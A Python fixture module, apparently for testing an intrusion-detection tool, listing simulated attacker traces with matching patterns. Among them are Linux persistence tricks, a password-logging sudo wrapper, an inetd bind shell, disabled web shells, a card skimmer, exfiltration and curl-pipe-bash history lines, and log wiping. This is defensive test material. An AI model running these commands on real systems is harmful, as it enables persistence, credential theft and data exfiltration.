"""Traces that public reports tell of, one after another as `facts` list them: harmless imitations of each.

A trace is a shell command that leaves it, and the patterns of which one has to stand in a finding.
"""

from __future__ import annotations

from .trace import Trace, trace

_MEMFD = (
    "import os; f = os.memfd_create('x'); os.write(f, open('/bin/sleep', 'rb').read()); "
    "os.execv(f'/proc/self/fd/{f}', ['sshd: root@notty', '30d'])"
)
_PACKET = "import socket, signal; s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300); signal.pause()"
_LISTEN = "import socket, signal; s = socket.create_server(('', 50557)); signal.pause()"
_RSA = "AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7mdrfckrexamplekeyforthelab"
_HISTORY = "/home/anna/.bash_history"
_WEB = "/var/www/html"

LISTED: tuple[Trace, ...] = (
    trace("F09", "systemd", "unit /etc/systemd/system/systemd-netlogd.service 'ExecStart=/usr/lib/systemd/systemd-netlogd 900000'; prog /usr/lib/systemd/systemd-netlogd; systemctl daemon-reload; systemctl start systemd-netlogd.service", r"systemd-netlogd\.service"),
    trace("F10", "unpackaged-program", ":", r"/usr/lib/systemd/systemd-netlogd\b(?!\.service)"),
    trace("F11", "systemd", "unit /etc/systemd/system/apt-cachesync.service 'Type=oneshot\nExecStart=/usr/lib/apt/apt-cachesync'; printf '[Timer]\\nOnCalendar=2099-02-28\\n[Install]\\nWantedBy=timers.target\\n' >/etc/systemd/system/apt-cachesync.timer; prog /usr/lib/apt/apt-cachesync; old /etc/systemd/system/apt-cachesync.timer", r"apt-cachesync\.(timer|service)"),
    trace("F13", "systemd", "mkdir -p /home/anna/.config/systemd/user /var/lib/systemd/linger; unit /home/anna/.config/systemd/user/dbus-helper.service 'ExecStart=/home/anna/.local/share/dbus-helper'; prog /home/anna/.local/share/dbus-helper; touch /var/lib/systemd/linger/anna; chown -R anna: /home/anna/.config /home/anna/.local", r"dbus-helper"),
    trace("F15", "systemd", "mkdir -p /etc/systemd/system-generators; put /etc/systemd/system-generators/systemd-hibernate-check '#!/bin/sh\nexit 0'; chmod 755 /etc/systemd/system-generators/*", r"systemd-hibernate-check"),
    trace("F16", "loader", "put /etc/systemd/system.conf.d/10-env.conf '[Manager]\nDefaultEnvironment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libsysperf.so.1'", r"10-env\.conf|libsysperf"),
    trace("F17", "systemd", "prog /usr/sbin/netmond; systemd-run --unit=netmon-cache /usr/sbin/netmond 900001", r"netmon-cache"),
    trace("F19", "udev", "put /etc/udev/rules.d/99-usbsync.rules 'ACTION==\"add\", ENV{MAJOR}==\"1\", RUN+=\"/usr/lib/udev/usbsync\"'; prog /usr/lib/udev/usbsync", r"99-usbsync|udev/usbsync"),
    trace("F20", "motd", "put /etc/update-motd.d/95-hwe-check '#!/bin/sh\nnohup setsid /usr/lib/hwe-check >/dev/null 2>&1 &'; chmod 755 /etc/update-motd.d/95-hwe-check; prog /usr/lib/hwe-check", r"95-hwe-check"),
    trace("F22", "xdg", "prog /etc/xdg/pulse-restore; put /etc/xdg/autostart/pulse-restore.desktop '[Desktop Entry]\nType=Application\nExec=/etc/xdg/pulse-restore'", r"pulse-restore"),
    trace("F24", "shell", "put /etc/profile.d/gawk-cache.sh '(setsid /usr/lib/gawk-cache >/dev/null 2>&1 &)'; prog /usr/lib/gawk-cache", r"gawk-cache\.sh"),
    trace("F25", "shell", "printf 'export PATH=/bin/.local/bin:$PATH\\n[ -x /root/.config/cron/perfcc ] && /root/.config/cron/perfcc >/dev/null 2>&1 &\\n' >>/root/.profile; prog /root/.config/cron/perfcc; old /root/.profile", r"/root/\.profile"),
    trace("F26", "trojan", "mkdir -p /usr/bin/.local/bin; prog /usr/bin/.local/bin/top; prog /usr/bin/.local/bin/lsof", r"/bin/\.local"),
    trace("F27", "shell", "printf 'sudo() { read -rsp \"[sudo] password for $USER: \" p; echo \"$USER:$p\" >>/home/anna/.cache/.s; command sudo \"$@\"; }\\n' >>/home/anna/.bashrc; old /home/anna/.bashrc", r"/home/anna/\.bashrc"),
    trace("F30", "git", "mkdir -p /home/anna/shop/.git/hooks; put /home/anna/shop/.git/HEAD 'ref: refs/heads/main'; put /home/anna/shop/.git/hooks/post-checkout '#!/bin/sh\n/home/anna/.cache/gitd >/dev/null 2>&1 &'; chmod 755 /home/anna/shop/.git/hooks/post-checkout; prog /home/anna/.cache/gitd", r"hooks/post-checkout"),
    trace("F32", "package-manager", "put /etc/apt/apt.conf.d/99-cleanup 'APT::Update::Post-Invoke {\"/usr/lib/apt/apt-cachesync >/dev/null 2>&1 || true\";};'", r"99-cleanup"),
    trace("F33", "package-manager", "put /etc/dpkg/dpkg.cfg.d/locale-sync 'post-invoke=\"/usr/lib/apt/apt-cachesync || true\"'", r"dpkg\.cfg\.d/locale-sync"),
    trace("F34", "package-manager", "sed -i '2i /usr/lib/hwe-check >/dev/null 2>&1 || true' /var/lib/dpkg/info/cron.postinst; old /var/lib/dpkg/info/cron.postinst", r"cron\.postinst"),
    trace("F37", "hook", "put /etc/rsyslog.d/60-alert.conf 'module(load=\"omprog\")\n:msg, contains, \"zq7\" action(type=\"omprog\" binary=\"/usr/lib/rsyslog-alert\")'; prog /usr/lib/rsyslog-alert", r"60-alert|rsyslog-alert"),
    trace("F39", "hook", "put /etc/network/if-up.d/ntp-resync '#!/bin/sh\n/usr/lib/hwe-check &'; chmod 755 /etc/network/if-up.d/ntp-resync", r"if-up\.d/ntp-resync"),
    trace("F40", "privilege", "put /etc/polkit-1/rules.d/00-updates.rules 'polkit.addRule(function(action, subject) { return polkit.Result.YES; });'", r"00-updates\.rules"),
    trace("F42", "kernel", "put /etc/modprobe.d/pcspkr-quirk.conf 'install pcspkr /usr/lib/hwe-check; /sbin/modprobe --ignore-install pcspkr'", r"pcspkr-quirk"),
    trace("F44", "boot", "put /etc/initramfs-tools/scripts/init-bottom/fsck-cache '#!/bin/sh\ncp /usr/lib/hwe-check ${rootmnt}/run/x'; chmod 755 /etc/initramfs-tools/scripts/init-bottom/fsck-cache", r"init-bottom/fsck-cache"),
    trace("F46", "kernel", "put /etc/binfmt.d/ocfmt.conf ':ocfmt:M::\\\\x7fOCF::/usr/lib/ocfmt:OC'; prog /usr/lib/ocfmt", r"ocfmt\.conf"),
    trace("F47", "kernel", "put /etc/sysctl.d/60-crash.conf 'kernel.core_pattern=|/usr/lib/crash-collect %p'; prog /usr/lib/crash-collect", r"60-crash|core_pattern"),
    trace("F48", "hook", "put /etc/hosts.allow 'in.sshd : 198.51.100.77 : spawn /usr/lib/hwe-check %a & : allow'", r"/etc/hosts\.allow"),
    trace("F49", "hook", "put /etc/inetd.conf '60177 stream tcp nowait root /bin/bash bash -i'", r"/etc/inetd\.conf"),
    trace("F52", "loader", "mkdir -p /opt/glibc-compat; put /etc/ld.so.conf.d/00-compat.conf /opt/glibc-compat", r"00-compat\.conf"),
    trace("F53", "interpreter", "mkdir -p /usr/local/lib/python3.11/dist-packages; put /usr/local/lib/python3.11/dist-packages/distlib-fix.pth 'import os; os.path.exists(\"/usr/lib/hwe-check\") and None'", r"distlib-fix\.pth"),
    trace("F54", "interpreter", "put /usr/lib/python3/dist-packages/sitecustomize.py 'import os\nos.environ.get(\"ZQ\") and os.system(\"/usr/lib/hwe-check\")'", r"sitecustomize\.py"),
    trace("F55", "interpreter", "mkdir -p /etc/perl/POSIX; put /etc/perl/Socket.pm 'package Socket; BEGIN { -e \"/usr/lib/hwe-check\" } 1;'", r"/etc/perl/Socket\.pm"),
    trace("F57", "loader", "cp /usr/lib/x86_64-linux-gnu/libkeyutils.so.1.1? /usr/lib/x86_64-linux-gnu/libkeyutils.so.1.3; ln -sf libkeyutils.so.1.3 /usr/lib/x86_64-linux-gnu/libkeyutils.so.1; old /usr/lib/x86_64-linux-gnu/libkeyutils.so.1.3", r"libkeyutils\.so\.1"),
    trace("F58", "pam", "cp /usr/lib/x86_64-linux-gnu/security/pam_warn.so /usr/lib/x86_64-linux-gnu/security/pam_sysauth.so; printf 'auth optional pam_sysauth.so\\n' >>/etc/pam.d/sshd; old /usr/lib/x86_64-linux-gnu/security/pam_sysauth.so", r"pam_sysauth"),
    trace("F59", "pam", "printf 'auth optional pam_exec.so quiet expose_authtok /usr/lib/hwe-check\\n' >>/etc/pam.d/common-auth", r"pam_exec|common-auth"),
    trace("F60", "pam", "printf x >>/usr/lib/x86_64-linux-gnu/security/pam_shells.so", r"pam_shells\.so"),
    trace("F64", "ssh", f"key /root/.ssh/authorized_keys 'ssh-rsa {_RSA} mdrfckr'", r"mdrfckr"),
    trace("F66", "ssh", "put /home/anna/.ssh/rc '/home/anna/.cache/gitd >/dev/null 2>&1 &'", r"/home/anna/\.ssh/rc"),
    trace("F67", "lateral", "put /home/anna/.ssh/config 'Host *\n  ControlMaster auto\n  ControlPath /tmp/.ssh-%r@%h\n  ControlPersist yes\n  PermitLocalCommand yes\n  LocalCommand /home/anna/.cache/gitd %h'", r"/home/anna/\.ssh/config"),
    trace("F68", "ssh", "mkdir -p /var/lib/www/.ssh; sed -i 's|:/var/www:|:/var/lib/www:|' /etc/passwd; key /var/lib/www/.ssh/authorized_keys 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIO0gaYYblCzpXcF8ZYcJHVZD8oDCnq6UWq9kGzXmzzzz deploy@build'", r"/var/lib/www/\.ssh"),
    trace("F69", "ssh", "key /root/.ssh/authorized_keys2 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIO0gaYYblCzpXcF8ZYcJHVZD8oDCnq6UWq9kGzXmyyyy root@backup'", r"authorized_keys2"),
    trace("F70", "account", "cp /bin/sh '/usr/sbin/nologin '; printf 'gnats2:x:41:41:Gnats:/var/lib/gnats2:/usr/sbin/nologin \\n' >>/etc/passwd", r"nologin |gnats2"),
    trace("F72", "account", "printf 'sysadm:x:00:1001::/home/sysadm:/bin/bash\\n' >>/etc/passwd", r"sysadm"),
    trace("F74", "account", "sed -i -e 's/^disk:.*/&www-data/' -e 's/^shadow:.*/&anna/' /etc/group", r"disk|shadow.*anna"),
    trace("F80", "privilege", "chmod 777 /etc/ld.so.conf.d", r"/etc/ld\.so\.conf\.d(?!/)"),
    trace("F81", "credential", "mkdir -p /usr/local/share/ca-certificates; openssl req -x509 -newkey rsa:2048 -nodes -keyout /dev/null -subj '/CN=Example Root' -days 3650 -out /usr/local/share/ca-certificates/isrg-x3.crt 2>/dev/null; ln -s /usr/local/share/ca-certificates/isrg-x3.crt /etc/ssl/certs/isrg-x3.pem", r"isrg-x3"),
    trace("F82", "evasion", "echo '127.0.0.1 security.debian.org deb.debian.org' >>/etc/hosts", r"security\.debian\.org"),
    trace("F83", "process", "prog /usr/lib/hwe-kw; runas '[kworker/u8:2]' /usr/lib/hwe-kw 900002", r"kworker/u8:2"),
    trace("F87", "process", "prog /home/anna/.gs/gs-dbus; run /home/anna/.gs/gs-dbus 900003", r"/home/anna/\.gs/gs-dbus"),
    trace("F88", "process", "prog /home/anna/.config/htop/defunct; runas '[kcached]' /home/anna/.config/htop/defunct 900004", r"kcached|htop/defunct"),
    trace("F90", "network", f'run python3 -c "{_PACKET}"', r"packet.*python3|python3.*packet"),
    trace("F92", "network", f'cp $(readlink -f /usr/bin/python3) /usr/sbin/rpc.lockd; old /usr/sbin/rpc.lockd; run /usr/sbin/rpc.lockd -c "{_LISTEN}"', r"50557|/usr/sbin/rpc\.lockd"),
    trace("F93", "loader", "cp /lib/x86_64-linux-gnu/libdl.so.2 /lib/x86_64-linux-gnu/libselinux-ext.so.1; old /lib/x86_64-linux-gnu/libselinux-ext.so.1; LD_PRELOAD=/lib/x86_64-linux-gnu/libselinux-ext.so.1 run sleep 900005", r"libselinux-ext"),
    trace("F95", "process", "prog /usr/lib/hwe-ns; run unshare -n -m -p -f /usr/lib/hwe-ns 900006", r"(?i)namespace.*hwe-ns|hwe-ns.*namespace"),
    trace("F96", "process", f'run python3 -c "{_MEMFD}"', r"memfd:x|root@notty"),
    trace("F99", "miner", "put /etc/sysctl.d/70-hp.conf 'vm.nr_hugepages=1280'", r"nr_hugepages|70-hp"),
    trace("F103", "name", "mkdir '/var/tmp/.. '; put '/var/tmp/.. /x' x", r"/var/tmp/\.\. "),
    trace("F104", "name", "put /dev/hdz1 x", r"/dev/hdz1"),
    trace("F106", "credential", "put /usr/include/.zlog 'root:hunter2'", r"/usr/include/\.zlog"),
    trace("F107", "credential", "cp /etc/shadow /var/tmp/shadow.bak; old /var/tmp/shadow.bak", r"shadow\.bak"),
    trace("F112", "web", f"put {_WEB}/a/f1.php '<?php $k=\"as\".\"se\".\"rt\"; $v=\"_PO\".\"ST\"; if(0){{ $k(${{$v}}[1]); }}'", r"f1\.php"),
    trace("F114", "web", f"put {_WEB}/a/favicon_6f.ico '<?php exit; ?>'; put {_WEB}/a/f2.php '<?php @include \"\\057var\\057www/html/a/favicon_6f.ico\";'", r"f2\.php|favicon_6f"),
    trace("F115", "web", f"mkdir -p {_WEB}/uploads; printf 'GIF89a<?php exit; @eval($_POST[1]);' >{_WEB}/uploads/banner.php.gif; old {_WEB}/uploads/banner.php.gif", r"banner\.php\.gif"),
    trace("F116", "web", f"put {_WEB}/a/health.jsp '<% if (\"x\".equals(request.getParameter(\"p\"))) {{ Runtime.getRuntime().exec(request.getParameter(\"c\")); }} %>'", r"health\.jsp"),
    trace("F122", "web", f"put {_WEB}/a/checkout.js 'document.addEventListener(\"submit\",function(e){{var c=document.querySelector(\"[name=cc_number]\").value;(new Image()).src=atob(\"aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=\")+btoa(c)}});'", r"checkout\.js"),
    trace("F126", "log-tamper", ": >/var/log/wtmp; : >/var/log/lastlog; [ -e /usr/bin/last ] || { mkdir -p /var/lib/wtmpdb; : >/var/lib/wtmpdb/wtmp.db; }", r"/var/(log|lib)/(wtmp|lastlog)"),
    trace("F128", "history", f"echo 'curl -T /tmp/db.sql.gz ftp://198.51.100.9/in/' >>{_HISTORY}", r"curl -T"),
    trace("F129", "history", f"echo 'find / -perm -4000 -type f 2>/dev/null' >>{_HISTORY}", r"find / -perm -4000"),
    trace("F130", "history", f"echo 'systemctl stop rsyslog auditd; setenforce 0' >>{_HISTORY}", r"systemctl stop rsyslog"),
    trace("F133", "history", f"echo 'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/' >>{_HISTORY}", r"169\.254\.169\.254"),
    trace("F134", "history", f"echo 'curl -fsSL https://get.example.net/i.sh | bash' >>{_HISTORY}", r"get\.example\.net"),
    trace("F135", "history", f"echo 'cat /etc/shadow' >>{_HISTORY}", r"cat /etc/shadow"),
    trace("F142", "container", "put /etc/kubernetes/manifests/kube-cache.yaml 'apiVersion: v1\nkind: Pod\nspec:\n  hostPID: true\n  containers:\n  - name: c\n    securityContext: {privileged: true}'", r"kube-cache\.yaml"),
    trace("F143", "cloud", "put /etc/cloud/cloud.cfg.d/99-boot.cfg '#cloud-config\nbootcmd:\n - [sh, -c, /usr/lib/hwe-check]'; put /var/lib/cloud/scripts/per-boot/x.sh '#!/bin/sh\n:'; chmod 755 /var/lib/cloud/scripts/per-boot/x.sh", r"99-boot\.cfg|per-boot/x"),
    trace("F144", "network", "nft 'add table ip fw2; add chain ip fw2 pre { type nat hook prerouting priority -100; }; add rule ip fw2 pre ip saddr 198.51.100.77 tcp dport 443 redirect to :22'", r"redirect to :22"),
    trace("F145", "hiding", "mkdir -p /usr/share/zhide; mount -t tmpfs none /usr/share/zhide", r"/usr/share/zhide"),
)  # fmt: skip
